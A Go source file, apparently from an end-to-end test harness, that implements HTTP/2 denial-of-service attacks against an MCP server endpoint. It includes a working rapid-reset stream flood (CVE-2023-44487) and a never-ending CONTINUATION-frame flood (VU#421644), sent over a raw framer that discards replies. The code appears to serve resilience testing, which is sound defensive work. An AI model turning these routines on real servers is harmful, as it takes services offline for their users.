package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"kubernetes-mcp-edge/e2e/harness"
)

// patience is how long a connection of a stranger lasts.
const patience = 10 * time.Second

func dial(ctx context.Context, address string) (net.Conn, error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	return c, c.SetDeadline(time.Now().Add(patience))
}

// frames is an HTTP/2 connection that keeps to no rule. What comes back is
// thrown away, so that the other side can go on sending.
type frames struct {
	conn   net.Conn
	framer *http2.Framer
	last   uint32
}

func newFrames(ctx context.Context, address string) (*frames, error) {
	c, err := dial(ctx, address)
	if err != nil {
		return nil, err
	}
	f := &frames{conn: c, framer: http2.NewFramer(c, nil)}
	go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		_ = c.Close()
		return nil, err
	}
	return f, f.framer.WriteSettings()
}

// open sends a HEADERS frame on a new stream.
func (f *frames) open(endHeaders, endStream bool, headers harness.Headers) error {
	if f.last == 0 {
		f.last = 1
	} else {
		f.last += 2
	}
	return f.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: f.last, BlockFragment: block(headers), EndHeaders: endHeaders, EndStream: endStream,
	})
}

// block is headers without the dynamic table: it stands for itself.
func block(headers harness.Headers) []byte {
	var out bytes.Buffer
	encoder := hpack.NewEncoder(&out)
	encoder.SetMaxDynamicTableSizeLimit(0)
	for _, h := range headers {
		_ = encoder.WriteField(hpack.HeaderField{Name: strings.ToLower(h.Name), Value: h.Value}) // into memory
	}
	return out.Bytes()
}

// request are the pseudo headers of an MCP request.
func request(headers harness.Headers) harness.Headers {
	return append(harness.Headers{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "mcp.example.com"}, {Name: ":path", Value: "/mcp"},
	}, headers...)
}

// held is one connection per worker that is opened anew when it breaks.
type held struct {
	address string
	f       *frames
}

// on acts on the connection and drops it when that fails.
func (h *held) on(ctx context.Context, act func(*frames) error) error {
	if h.f == nil {
		f, err := newFrames(ctx, h.address)
		if err != nil {
			return err
		}
		h.f = f
	}
	if err := act(h.f); err != nil {
		_ = h.f.conn.Close()
		h.f = nil
		return err
	}
	return nil
}

// rapidReset opens a stream and resets it before anybody can answer
// (CVE-2023-44487).
func rapidReset(headers harness.Headers) func(*frames) error {
	return func(f *frames) error {
		if err := f.open(true, false, request(headers)); err != nil {
			return err
		}
		return f.framer.WriteRSTStream(f.last, http2.ErrCodeCancel)
	}
}

// continuations begins a block of headers and never ends it (VU#421644).
func continuations(f *frames) error {
	if err := f.open(false, false, request(nil)); err != nil {
		return err
	}
	for i := range 64 {
		more := block(harness.Headers{{Name: fmt.Sprintf("x-more-%d", i), Value: strings.Repeat("a", 4<<10)}})
		if err := f.framer.WriteContinuation(f.last, false, more); err != nil {
			return err
		}
	}
	return nil
}
